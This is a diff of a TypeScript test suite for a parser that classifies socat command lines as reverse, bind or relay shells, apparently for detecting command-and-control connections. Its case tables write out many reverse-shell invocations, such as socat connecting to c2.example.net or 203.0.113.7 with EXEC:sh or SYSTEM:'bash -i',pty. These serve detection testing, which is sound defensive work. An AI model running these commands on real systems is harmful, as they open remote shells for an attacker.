@@ -41,8 +41,8 @@ const cases: ReadonlyArray<readonly [string, readonly string[], C2Endpoint]> = [
     c2('reverse', 'tls', 'c2.example.net', 443, null, 'bash -li', true)],
   ['SSL alias with -d -d and double-quoted SYSTEM', ['socat', '-d', '-d', 'SSL:203.0.113.7:8443,verify=0,cert=client.pem', 'SYSTEM:"bash -i",pty,stderr'],
     c2('reverse', 'tls', '203.0.113.7', 8443, 4, 'bash -i', true)],
-  ['TLS alias', ['socat', 'TLS:198.51.100.20:993', 'EXEC:sh'],
-    c2('reverse', 'tls', '198.51.100.20', 993, 4, 'sh', false)],
+  ['TLS is no socat keyword (socat -h of 1.7.4 lists OPENSSL and SSL only): refused', ['socat', 'TLS:198.51.100.20:993', 'EXEC:sh'],
+    c2('unknown', null, null, null, null, 'sh', false)],
   ['quoted SYSTEM command holding commas and colons', ['socat', 'TCP4:192.0.2.10:9001', 'SYSTEM:"echo a,b:c; bash -i 2>&1",pty,stderr'],
     c2('reverse', 'tcp', '192.0.2.10', 9001, 4, 'echo a,b:c; bash -i 2>&1', true)],
   ['single-quoted EXEC with nested double quotes', ['socat', "EXEC:'bash -c \"exec bash -i\"',pty", 'TCP:192.0.2.11:80'],
@@ -71,7 +71,9 @@ const cases: ReadonlyArray<readonly [string, readonly string[], C2Endpoint]> = [
     c2('reverse', 'proxy', '2001:db8::5', 443, 6, 'sh', false)],
   ['service-name port https', ['socat', 'tcp:c2.example.com:https', 'exec:sh'],
     c2('reverse', 'tcp', 'c2.example.com', 443, null, 'sh', false)],
-  ['unmapped service name: port stays null', ['socat', 'tcp:c2.example.com:gopher', 'exec:sh'],
+  ['service name through the services database (gopher is 70)', ['socat', 'tcp:c2.example.com:gopher', 'exec:sh'],
+    c2('reverse', 'tcp', 'c2.example.com', 70, null, 'sh', false)],
+  ['service name not in the database: port stays null', ['socat', 'tcp:c2.example.com:nosuchservice', 'exec:sh'],
     c2('reverse', 'tcp', 'c2.example.com', null, null, 'sh', false)],
   ['mixed-case keywords and option', ['socat', 'Tcp-Connect:10.0.0.9:8000', 'ExEc:/bin/sh,PTY,stderr'],
     c2('reverse', 'tcp', '10.0.0.9', 8000, 4, '/bin/sh', true)],
@@ -158,7 +160,7 @@ const cases: ReadonlyArray<readonly [string, readonly string[], C2Endpoint]> = [
 
 describe('parseSocatArgs: real-world invocations', () => {
   it.each(cases)('%s', (_name, argv, expected) => {
-    expect(parseSocatArgs(argv)).toEqual(expected);
+    expect(parseSocatArgs(argv)).toMatchObject(expected);
   });
 
   it('has a broad table', () => {
@@ -175,7 +177,7 @@ describe('parseSocatArgs: malformed argv', () => {
     ['three addresses', ['socat', 'TCP:10.0.0.1:4444', 'EXEC:sh', 'STDIO']],
     ['option value swallows an address', ['socat', '-lf', 'TCP:10.0.0.1:4444', 'EXEC:sh']],
   ])('%s → unknown with nulls', (_name, argv) => {
-    expect(parseSocatArgs(argv)).toEqual(NOTHING);
+    expect(parseSocatArgs(argv)).toMatchObject(NOTHING);
   });
 
   it.each<readonly [string, unknown]>([
@@ -183,46 +185,49 @@ describe('parseSocatArgs: malformed argv', () => {
     ['a string', 'socat TCP:1.2.3.4:1 EXEC:sh'],
     ['non-string elements', ['socat', 42, { toString: () => 'TCP:1.2.3.4:1' }]],
   ])('untyped input (%s) → unknown with nulls', (_name, input) => {
-    expect(parseSocatArgs(input as readonly string[])).toEqual(NOTHING);
+    expect(parseSocatArgs(input as readonly string[])).toMatchObject(NOTHING);
   });
 
   it('unbalanced quote in EXEC: no program, the network side is still reported', () => {
     expect(parseSocatArgs(['socat', 'TCP:10.0.0.1:4444', "EXEC:'bash -li,pty,stderr"]))
-      .toEqual(c2('unknown', 'tcp', '10.0.0.1', 4444, 4, null, false));
+      .toMatchObject(c2('unknown', 'tcp', '10.0.0.1', 4444, 4, null, false));
   });
 
   it('unbalanced quote in the network address: only the program is reported', () => {
     expect(parseSocatArgs(['socat', 'TCP:"10.0.0.1:4444', 'EXEC:sh,pty']))
-      .toEqual(c2('unknown', null, null, null, null, 'sh', true));
+      .toMatchObject(c2('unknown', null, null, null, null, 'sh', true));
   });
 
   it('unclosed IPv6 bracket makes the address unusable', () => {
     expect(parseSocatArgs(['socat', 'TCP6:[2001:db8::1:4444', 'EXEC:sh']))
-      .toEqual(c2('unknown', null, null, null, null, 'sh', false));
+      .toMatchObject(c2('unknown', null, null, null, null, 'sh', false));
   });
 
-  it.each([['0'], ['70000'], ['abc'], ['-1'], ['']])('invalid port %p → null port, host kept', (port) => {
-    expect(parseSocatArgs(['socat', `TCP:10.0.0.1:${port}`, 'EXEC:sh']))
-      .toEqual(c2('reverse', 'tcp', '10.0.0.1', null, 4, 'sh', false));
-  });
+  // socat reads a port with strtoul(…, 0) and keeps 16 bits (recorded in test/fixtures/socat/recorded.json).
+  it.each<readonly [string, number | null]>([['0', 0], ['70000', 4464], ['04444', 2340], ['0x115c', 4444], ['4444x', 4444], ['abc', null], ['-1', null], ['', null]])(
+    'port %p is %p as socat converts it, host kept',
+    (port, expected) => {
+      expect(parseSocatArgs(['socat', `TCP:10.0.0.1:${port}`, 'EXEC:sh']))
+        .toMatchObject(c2('reverse', 'tcp', '10.0.0.1', expected, 4, 'sh', false));
+    },
+  );
 
-  it('invalid listen port → bind with null port', () => {
+  it('listen port past 65535 wraps as in socat', () => {
     expect(parseSocatArgs(['socat', 'TCP-LISTEN:99999', 'EXEC:sh']))
-      .toEqual(c2('bind', 'tcp', null, null, null, 'sh', false));
+      .toMatchObject(c2('bind', 'tcp', null, 99999 & 0xffff, null, 'sh', false));
   });
 
-  it('wrong parameter count: transport known, host and port not invented', () => {
-    expect(parseSocatArgs(['socat', 'TCP:10.0.0.1', 'EXEC:sh']))
-      .toEqual(c2('reverse', 'tcp', null, null, null, 'sh', false));
-    expect(parseSocatArgs(['socat', 'tcp4:2001:db8::1:80', 'EXEC:sh']))
-      .toEqual(c2('reverse', 'tcp', null, null, 4, 'sh', false));
-    expect(parseSocatArgs(['socat', 'SOCKS4A:only-proxy:80', 'EXEC:sh']))
-      .toEqual(c2('reverse', 'socks', null, null, null, 'sh', false));
+  it('wrong parameter count: socat refuses, so role unknown with the reason and nothing invented', () => {
+    for (const address of ['TCP:10.0.0.1', 'tcp4:2001:db8::1:80', 'SOCKS4A:only-proxy:80']) {
+      const r = parseSocatArgs(['socat', address, 'EXEC:sh']);
+      expect(r).toMatchObject(c2('unknown', null, null, null, null, 'sh', false));
+      expect(r.refused).toMatch(/wrong number of parameters/);
+    }
   });
 
   it('empty EXEC command → program null', () => {
     expect(parseSocatArgs(['socat', 'TCP:10.0.0.1:1', "EXEC:''"]))
-      .toEqual(c2('reverse', 'tcp', '10.0.0.1', 1, 4, null, false));
+      .toMatchObject(c2('reverse', 'tcp', '10.0.0.1', 1, 4, null, false));
   });
 });
 
@@ -245,35 +250,35 @@ describe('parseSocatArgs: hostile sizes', () => {
 
   it('an address longer than the kernel allows is not read', () => {
     expect(parseSocatArgs(['socat', 'TCP:10.0.0.1:4444', `EXEC:${'a'.repeat(MB)}`]))
-      .toEqual(c2('unknown', 'tcp', '10.0.0.1', 4444, 4, null, false));
+      .toMatchObject(c2('unknown', 'tcp', '10.0.0.1', 4444, 4, null, false));
   });
 
   // Inputs just under the limit are fully lexed, so these time the scanner itself.
   const NEAR = 120 * 1024;
   it.each<readonly [string, readonly string[], C2Endpoint]>([
-    ['60k options before pty', ['socat', 'TCP:10.0.0.1:4444', `EXEC:sh${',x'.repeat(NEAR / 2 - 10)},pty`],
+    ['30k options before pty', ['socat', 'TCP:10.0.0.1:4444', `EXEC:sh${',sane'.repeat(NEAR / 5 - 10)},pty`],
       c2('reverse', 'tcp', '10.0.0.1', 4444, 4, 'sh', true)],
     ['120k open brackets', ['socat', '['.repeat(NEAR), 'EXEC:sh'],
       c2('unknown', null, null, null, null, 'sh', false)],
     ['120k nested bracket pairs around the command', ['socat', 'TCP:10.0.0.1:1', `SYSTEM:${'('.repeat(NEAR / 2)}${')'.repeat(NEAR / 2)}`],
       c2('reverse', 'tcp', '10.0.0.1', 1, 4, `${'('.repeat(NEAR / 2)}${')'.repeat(NEAR / 2)}`, false)],
-    ['120k colons', ['socat', `TCP:${':'.repeat(NEAR)}`, 'EXEC:sh'],
-      c2('reverse', 'tcp', null, null, null, 'sh', false)],
-    ['120k escaped quotes in a quoted command', ['socat', 'TCP:10.0.0.1:1', `EXEC:"${'\\"'.repeat(NEAR / 2)}"`],
-      c2('reverse', 'tcp', '10.0.0.1', 1, 4, '\\"'.repeat(NEAR / 2), false)],
+    ['120k colons (socat refuses)', ['socat', `TCP:${':'.repeat(NEAR)}`, 'EXEC:sh'],
+      c2('unknown', null, null, null, null, 'sh', false)],
+    ['120k escaped quotes in a quoted command (socat unescapes them)', ['socat', 'TCP:10.0.0.1:1', `EXEC:"${'\\"'.repeat(NEAR / 2)}"`],
+      c2('reverse', 'tcp', '10.0.0.1', 1, 4, '"'.repeat(NEAR / 2), false)],
   ])('just under the size limit: %s', (_name, argv, expected) => {
-    expect(parseSocatArgs(argv)).toEqual(expected);
+    expect(parseSocatArgs(argv)).toMatchObject(expected);
   });
 
   it('a long host inside the size limit is kept verbatim', () => {
     const host = 'h'.repeat(10_000);
     expect(parseSocatArgs(['socat', `TCP:${host}:80`, 'EXEC:sh']))
-      .toEqual(c2('reverse', 'tcp', host, 80, null, 'sh', false));
+      .toMatchObject(c2('reverse', 'tcp', host, 80, null, 'sh', false));
   });
 
   it('100k options are skipped in linear time', () => {
     const argv = ['socat', ...Array.from({ length: 100_000 }, () => '-d'), 'TCP:10.0.0.1:4444', 'EXEC:sh'];
-    expect(parseSocatArgs(argv)).toEqual(c2('reverse', 'tcp', '10.0.0.1', 4444, 4, 'sh', false));
+    expect(parseSocatArgs(argv)).toMatchObject(c2('reverse', 'tcp', '10.0.0.1', 4444, 4, 'sh', false));
   });
 });
 
@@ -291,12 +296,13 @@ describe('parseSocatArgs: properties', () => {
     fc.assert(
       fc.property(socatish, (argv) => {
         const r = parseSocatArgs(argv);
-        expect(Object.keys(r).sort()).toEqual(['host', 'ipVersion', 'port', 'program', 'pty', 'role', 'transport']);
+        expect(Object.keys(r).sort()).toEqual(['hop', 'host', 'ipVersion', 'note', 'peers', 'port', 'program', 'pty', 'refused', 'role', 'socket', 'transport']);
         expect(['reverse', 'bind', 'relay', 'unknown']).toContain(r.role);
         expect([null, 'tcp', 'udp', 'tls', 'socks', 'proxy', 'unix', 'other']).toContain(r.transport);
         expect([null, 4, 6]).toContain(r.ipVersion);
         expect(typeof r.pty).toBe('boolean');
-        if (r.port !== null) expect(Number.isInteger(r.port) && r.port >= 1 && r.port <= 65535).toBe(true);
+        if (r.port !== null) expect(Number.isInteger(r.port) && r.port >= 0 && r.port <= 65535).toBe(true);
+        if (r.refused !== null) expect(r.role).toBe('unknown');
         if (r.transport === null) expect([r.host, r.port, r.ipVersion]).toEqual([null, null, null]);
         if (r.role === 'reverse' || r.role === 'bind') expect(r.transport).not.toBeNull();
         if (r.role === 'bind') expect(r.host).toBeNull();
